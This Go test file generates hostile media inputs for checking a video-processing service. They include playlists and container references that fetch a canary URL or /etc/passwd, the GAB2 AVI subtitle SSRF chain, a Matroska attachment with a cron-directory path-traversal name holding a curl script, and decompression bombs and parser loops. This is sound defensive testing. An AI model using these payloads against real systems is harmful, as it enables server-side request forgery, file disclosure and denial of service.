package corpus

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// A Hostile is a file that means harm. What becomes of it is open: it is refused, or
// fails with a reason, or plays; and nothing else happens.
type Hostile struct {
	Name string // of the file
	Data []byte
	Must bool // be refused: it is no video
}

// Hostiles are those that cost little to make. The canary is an address, http://host:port,
// that nobody may ask for anything.
func Hostiles(t testing.TB, canary string) []Hostile {
	return slices.Concat(playlists(canary), references(t, canary), lies(t), loops(t), bombs(t), crowds(t))
}

// playlists are texts that name files and addresses, called videos.
func playlists(canary string) []Hostile {
	host := strings.TrimPrefix(canary, "http://")
	_, port, _ := strings.Cut(host, ":")
	hls := "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n" + canary + "/a.ts\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
	texts := map[string]string{
		"hls.mp4":    hls,
		"hls.avi":    hls,
		"hls-bom.ts": "\xEF\xBB\xBF" + hls,
		"key.m3u8":   "#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI=\"" + canary + "/key\"\n#EXTINF:1,\n/etc/passwd\n",
		"concat.mp4": "ffconcat version 1.0\nfile '" + canary + "/a.mp4'\nfile '/etc/passwd'\n",
		"dash.mp4": `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT10S"><Period><BaseURL>` + canary +
			`/</BaseURL><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>`,
		"session.mp4": "v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=x\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=video " + port + " RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n",
		"list.avi":    "[playlist]\nFile1=" + canary + "/a\nNumberOfEntries=1\nVersion=2\n",
		"list.wmv":    "[Reference]\r\nRef1=" + canary + "/a.asf\r\n",
		"list.asx":    `<asx version="3.0"><entry><ref href="` + canary + `/a"/></entry></asx>`,
		"link.mov":    `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="` + canary + `/a.mov" autoplay="true"/>`,
		"ts-then.mp4": "G" + strings.Repeat("\xFF", 187) + hls,
	}
	var all []Hostile
	for name, text := range texts {
		all = append(all, Hostile{name, []byte(text), true})
	}
	slices.SortFunc(all, func(a, b Hostile) int { return strings.Compare(a.Name, b.Name) })
	// The chain that was shown on HackerOne in 2017: subtitles inside an AVI that are a playlist.
	return append(all, Hostile{"gab2.avi", gab2(hls), false})
}

// gab2 is an AVI with pictures of nothing and a stream of subtitles with that text.
func gab2(text string) []byte {
	header := func(kind, codec string) []byte {
		return slices.Concat([]byte(kind+codec), le32(0, 0, 0, 1, 25, 0, 125, 0, 0, 0, 0, 0))
	}
	bitmap := slices.Concat(le32(40, 16, 16), []byte{1, 0, 24, 0}, le32(0, 16*16*3, 0, 0, 0, 0))
	main := le32(40_000, 0, 0, 0x10, 125, 0, 2, 0, 16, 16, 0, 0, 0, 0)
	name := "x\x00t\x00\x00\x00"
	words := slices.Concat([]byte("GAB2\x00\x02\x00"), le32(uint32(len(name))), []byte(name), []byte{4, 0}, le32(uint32(len(text))), []byte(text))
	movie := [][]byte{[]byte("movi"), chunk("01tx", words)}
	for range 25 {
		movie = append(movie, chunk("00db", make([]byte, 16*16*3)))
	}
	body := slices.Concat([]byte("AVI "),
		chunk("LIST", []byte("hdrl"), chunk("avih", main),
			chunk("LIST", []byte("strl"), chunk("strh", header("vids", "DIB ")), chunk("strf", bitmap)),
			chunk("LIST", []byte("strl"), chunk("strh", header("txts", "\x00\x00\x00\x00")), chunk("strf", nil))),
		chunk("LIST", movie...))
	return chunk("RIFF", body)
}

// references are real containers that say that what they hold is elsewhere.
func references(t testing.TB, canary string) []Hostile {
	whole := Get("behind.mp4").Bytes(t)
	dref := func(kind string, content []byte) []byte {
		return change(whole, "moov/trak/mdia/minf/dinf/dref", func([]byte) []byte {
			return slices.Concat(be32(0, 1), full(kind, 0, 0, content))
		})
	}
	alias := make([]byte, 150)
	copy(alias[8:], be32(0x01700002))
	copy(alias[142:], "\x00\x02\x00\x0b/etc/passwd")
	alias = append(alias, "/passwd\x00\x00\x12\x00\x0b/etc/passwd\x00\xff\xff\x00\x00"...)
	rdrf := full("rdrf", 0, 0, []byte("url "), be32(uint32(len(canary)+7)), []byte(canary+"/a.mov\x00"))
	mkv := Get("opus.mkv").Bytes(t)
	linked := slices.Concat(
		element("\x15\x49\xA9\x66", element("\x3E\xB9\x23", make([]byte, 16)), element("\x3E\x83\xBB", []byte(canary+"/next.mkv")), element("\x3C\x83\xAB", []byte("/etc/passwd"))),
		element("\x19\x41\xA4\x69", element("\x61\xA7", element("\x46\x6E", []byte("../../../etc/cron.d/x")), element("\x46\x60", []byte("application/x-sh")), element("\x46\x5C", []byte("#!/bin/sh\ncurl "+canary+"\n")), element("\x46\xAE", []byte{1}))))
	return []Hostile{
		{"url.mov", dref("url ", []byte(canary+"/a.mov\x00")), false},
		{"alias.mov", dref("alis", alias), false},
		{"resource.mov", dref("rsrc", alias), false},
		{"elsewhere.mov", slices.Concat(box("ftyp", []byte("qt  \x00\x00\x00\x00qt  ")), box("moov", box("rmra", box("rmda", rdrf, full("rmvc", 0, 0, []byte("qtim"), be32(0x6000, 0)))))), true},
		{"linked.mkv", behindHead(mkv, linked), false},
		{"other-segment.mkv", behindHead(mkv, element("\x10\x43\xA7\x70", element("\x45\xB9", element("\x45\xDD", []byte{1}), element("\xB6", element("\x91", []byte{0}), element("\x6E\x67", bytes.Repeat([]byte{7}, 16)))))), false},
	}
}

// behindHead puts elements first into the segment of a Matroska file, whose size is made
// unknown.
func behindHead(mkv, elements []byte) []byte {
	at := bytes.Index(mkv, []byte("\x18\x53\x80\x67"))
	return slices.Concat(mkv[:at+4], []byte("\x01\xFF\xFF\xFF\xFF\xFF\xFF\xFF"), elements, mkv[at+12:])
}

// lies are files whose tables say what is not so.
func lies(t testing.TB) (all []Hostile) {
	whole := Get("behind.mp4").Bytes(t)
	lie := func(name, path string, at int, b ...byte) {
		all = append(all, Hostile{"lie-" + name + ".mp4", change(whole, path, set(at, b...)), false})
	}
	const table = "moov/trak/mdia/minf/stbl/"
	most := []byte{0xFF, 0xFF, 0xFF, 0xFF}
	lie("duration", "moov/mvhd", 16, most...)
	lie("scale-0", "moov/trak/mdia/mdhd", 12, 0, 0, 0, 0)
	lie("scale-1", "moov/trak/mdia/mdhd", 12, 0, 0, 0, 1)
	lie("scale-most", "moov/trak/mdia/mdhd", 12, 0x7F, 0xFF, 0xFF, 0xFF)
	lie("length", "moov/trak/mdia/mdhd", 16, most...)
	lie("sizes", table+"stsz", 8, most...)
	lie("size", table+"stsz", 4, 0x7F, 0xFF, 0xFF, 0xFF)
	lie("times", table+"stts", 8, 0x7F, 0xFF, 0xFF, 0xFF)
	lie("delta", table+"stts", 12, most...)
	lie("entries", table+"stts", 4, most...)
	lie("chunks", table+"stco", 4, 0x0F, 0xFF, 0xFF, 0xFF)
	lie("places", table+"stco", 8, most...)
	lie("in-chunk", table+"stsc", 12, 0x7F, 0xFF, 0xFF, 0xFF)
	lie("edits", "moov/trak/edts/elst", 4, most...)
	lie("edit-at", "moov/trak/edts/elst", 12, 0x7F, 0xFF, 0xFF, 0xFF)
	lie("width", table+"stsd", 8+8+24, 0xFF, 0xFF, 0xFF, 0xFF)
	lie("matrix", "moov/trak/tkhd", 40, bytes.Repeat(most, 9)...)
	lie("no-matrix", "moov/trak/tkhd", 40, make([]byte, 36)...)
	lie("stsd-count", table+"stsd", 4, 0, 1, 0, 0)
	duration := func(name string, seconds float64) Hostile {
		return Hostile{"lie-duration-" + name + ".mkv", behindHead(Get("opus.mkv").Bytes(t), element("\x15\x49\xA9\x66",
			element("\x2A\xD7\xB1", []byte{0x0F, 0x42, 0x40}), element("\x44\x89", binary.BigEndian.AppendUint64(nil, math.Float64bits(seconds))))), false}
	}
	all = append(all, duration("nan", math.NaN()), duration("inf", math.Inf(1)), duration("minus", -1e9), duration("most", 1e300),
		Hostile{"lie-scale.mkv", behindHead(Get("opus.mkv").Bytes(t), element("\x15\x49\xA9\x66", element("\x2A\xD7\xB1", bytes.Repeat([]byte{0x7F}, 8)))), false})
	avi := Get("raw.avi").Bytes(t)
	strh := bytes.Index(avi, []byte("strh")) + 8
	strf := bytes.Index(avi, []byte("strf")) + 8
	for name, e := range map[string]struct {
		at int
		b  []byte
	}{
		"rate-0": {strh + 20, le32(0, 0)}, "rate-most": {strh + 20, le32(1, math.MaxUint32)}, "frames": {strh + 32, le32(math.MaxUint32)},
		"size": {strf + 4, le32(30000, 30000)}, "size-minus": {strf + 4, le32(math.MaxUint32, 1<<31)}, "head": {strf - 4, le32(math.MaxUint32)},
	} {
		b := bytes.Clone(avi)
		copy(b[e.at:], e.b)
		all = append(all, Hostile{"lie-" + name + ".avi", b, false})
	}
	return all
}

// loops are files that lead readers round, or on and on.
func loops(t testing.TB) []Hostile {
	whole := Get("behind.mp4").Bytes(t)
	again := slices.Concat(be32(0, 100_000), bytes.Repeat(be32(5000, 0, 0x10000), 100_000))
	nested := []byte{}
	for range 20_000 {
		nested = append(be32(uint32(len(nested)+8)), append([]byte("trak"), nested...)...)
	}
	deep := []byte{}
	for range 2000 {
		deep = element("\xB6", deep)
	}
	packet := append([]byte{0x47, 0x1F, 0xFF, 0x10}, bytes.Repeat([]byte{0xFF}, 184)...)
	ts := Get("h264.ts").Bytes(t)
	page := []byte("OggS\x00\x02\x00\x00\x00\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00")
	binary.LittleEndian.PutUint32(page[22:], crc32.ChecksumIEEE(nil))
	return []Hostile{
		{"loop-edits.mp4", change(whole, "moov/trak/edts/elst", func([]byte) []byte { return again }), false},
		{"loop-nested.mp4", slices.Concat(box("ftyp", []byte("isom\x00\x00\x00\x00isom")), box("moov", nested)), true},
		{"loop-box-0.mp4", slices.Concat(box("ftyp", []byte("isom\x00\x00\x00\x00isom")), bytes.Repeat(box("free"), 300_000), be32(0), []byte("moov")), true},
		{"loop-large-box.mp4", slices.Concat(box("ftyp", []byte("isom\x00\x00\x00\x00isom")), be32(1), []byte("moov"), be32(0xFFFFFFFF, 0xFFFFFFF0)), true},
		{"loop-chapters.mkv", behindHead(Get("opus.mkv").Bytes(t), element("\x10\x43\xA7\x70", element("\x45\xB9", deep))), false},
		{"loop-nothing.ts", bytes.Repeat(packet, 20_000), true},
		{"loop-tail.ts", slices.Concat(ts, bytes.Repeat(packet, 20_000)), false},
		{"loop-first-packet.ts", bytes.Repeat(ts[:188*3], 5000), false},
		{"loop-packs.mpg", bytes.Repeat([]byte("\x00\x00\x01\xBA\x44\x00\x04\x00\x04\x01\x00\x00\x03\xF8"), 200_000), true},
		{"loop-pages.ogv", bytes.Repeat(page, 100_000), true},
		{"loop-tags.flv", slices.Concat([]byte("FLV\x01\x05\x00\x00\x00\x09\x00\x00\x00\x00"), bytes.Repeat([]byte{9, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 11}, 200_000)), false},
	}
}

// grayPNG is a PNG of that side in a few hundred bytes for each thousand pixels.
func grayPNG(side int) []byte {
	var z bytes.Buffer
	w, _ := zlib.NewWriterLevel(&z, zlib.BestCompression)
	row := make([]byte, side/8+1)
	for range side {
		w.Write(row)
	}
	w.Close()
	piece := func(kind string, data []byte) []byte {
		b := append(be32(uint32(len(data))), append([]byte(kind), data...)...)
		return binary.BigEndian.AppendUint32(b, crc32.ChecksumIEEE(b[4:]))
	}
	return slices.Concat([]byte("\x89PNG\r\n\x1a\n"), piece("IHDR", append(be32(uint32(side), uint32(side)), 1, 0, 0, 0, 0)), piece("IDAT", z.Bytes()), piece("IEND", nil))
}

// bombs are small files that become large.
func bombs(t testing.TB) []Hostile {
	dir := t.TempDir()
	made := func(name string, args ...string) []byte {
		path := filepath.Join(dir, name)
		if _, err := ffmpeg(append(args, path)...); err != nil {
			t.Fatal(err)
		}
		b, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	png := filepath.Join(dir, "a.png")
	if err := os.WriteFile(png, grayPNG(16000), 0o600); err != nil {
		t.Fatal(err)
	}
	// The size stands behind the sync code and four bits of a key frame's head.
	vp9 := Get("vp9.webm").Bytes(t)
	for at := 0; ; at += 3 {
		i := bytes.Index(vp9[at:], []byte("\x49\x83\x42"))
		if i < 0 {
			break
		}
		at += i
		vp9[at+3] |= 0x03
		copy(vp9[at+4:], "\xFF\xF3\xFF")
		vp9[at+7] |= 0xF0
	}
	jpeg := Get("mjpeg.avi").Bytes(t)
	for at := 0; ; {
		i := bytes.Index(jpeg[at:], []byte("\xFF\xC0\x00\x11\x08"))
		if i < 0 {
			break
		}
		at += i + 5
		copy(jpeg[at:], "\xFF\xDC\xFF\xDC")
	}
	var z bytes.Buffer
	w := zlib.NewWriter(&z)
	zeros := make([]byte, 1<<20)
	for range 64 {
		w.Write(zeros)
	}
	w.Close()
	compressed := func(size uint32) []byte {
		return slices.Concat(box("ftyp", []byte("qt  \x00\x00\x00\x00qt  ")), box("moov", box("cmov", box("dcom", []byte("zlib")), box("cmvd", be32(size), z.Bytes()))))
	}
	return []Hostile{
		{"bomb-png.mov", made("png.mov", "-framerate", "25", "-loop", "1", "-t", "1", "-f", "image2", "-i", png, "-c", "copy"), false},
		{"bomb-vp9.webm", vp9, false},
		{"bomb-jpeg.avi", jpeg, false},
		{"bomb-head.mov", compressed(64 << 20), true},
		{"bomb-head-lies.mov", compressed(0xFFFFFFF0), true},
		{"bomb-h264.mp4", made("wide.mp4", "-f", "lavfi", "-i", "color=gray:s=16384x64:r=25:d=2", "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p"), false},
	}
}

// crowds are files with too much of something that is small.
func crowds(t testing.TB) []Hostile {
	whole := Get("behind.mp4").Bytes(t)
	var trak []byte
	change(whole, "moov/trak", func(c []byte) []byte { trak = c; return c })
	many := change(whole, "moov", func(c []byte) []byte { return slices.Concat(c, bytes.Repeat(box("trak", trak), 1000)) })
	mkv := Get("opus.mkv").Bytes(t)
	var chapters, tags, attachments [][]byte
	for n := range 20_000 {
		chapters = append(chapters, element("\xB6", element("\x73\xC4", be32(0, uint32(n+1))), element("\x91", be32(0, uint32(n))), element("\x80", element("\x85", []byte(strings.Repeat("x", 20))))))
		tags = append(tags, element("\x73\x73", element("\x63\xC0"), element("\x67\xC8", element("\x45\xA3", fmt.Appendf(nil, "K%d", n)), element("\x44\x87", []byte("v")))))
	}
	for range 2000 {
		attachments = append(attachments, element("\x61\xA7", element("\x46\x6E", []byte("a.jpg")), element("\x46\x60", []byte("image/jpeg")), element("\x46\x5C", []byte("\xFF\xD8\xFF")), element("\x46\xAE", []byte{9})))
	}
	title := element("\x12\x54\xC3\x67", element("\x73\x73", element("\x63\xC0"), element("\x67\xC8", element("\x45\xA3", []byte("TITLE")), element("\x44\x87", bytes.Repeat([]byte("title "), 1<<20)))))
	return []Hostile{
		{"crowd-tracks.mp4", many, false},
		{"crowd-chapters.mkv", behindHead(mkv, element("\x10\x43\xA7\x70", element("\x45\xB9", chapters...))), false},
		{"crowd-tags.mkv", behindHead(mkv, element("\x12\x54\xC3\x67", tags...)), false},
		{"crowd-attachments.mkv", behindHead(mkv, element("\x19\x41\xA4\x69", attachments...)), false},
		{"crowd-title.mkv", behindHead(mkv, title), false},
		{"crowd-cues.mkv", cues(t, 50_000, "words"), false},
		{"crowd-words.mkv", cues(t, 3, strings.Repeat("{\\i1}words ", 300_000)), false},
	}
}

// cues is a film of two seconds with that many captions.
func cues(t testing.TB, n int, text string) []byte {
	dir := t.TempDir()
	var ass strings.Builder
	ass.WriteString("[Script Info]\nScriptType: v4.00+\n\n[V4+ Styles]\nFormat: Name, Fontname, Fontsize\nStyle: Default,Arial,20\n\n[Events]\nFormat: Layer, Start, End, Style, Text\n")
	for i := range n {
		fmt.Fprintf(&ass, "Dialogue: 0,0:00:%02d.%02d,0:00:59.00,Default,%s\n", i/100%60, i%100, text)
	}
	if err := os.WriteFile(filepath.Join(dir, "a.ass"), []byte(ass.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, "cues.mkv")
	if _, err := ffmpeg(join(picture(64, 36, "25", 2), []string{"-i", dir + "/a.ass", "-map", "0", "-map", "1"}, x264(), []string{"-c:s", "copy", path})...); err != nil {
		t.Fatal(err)
	}
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return b
}
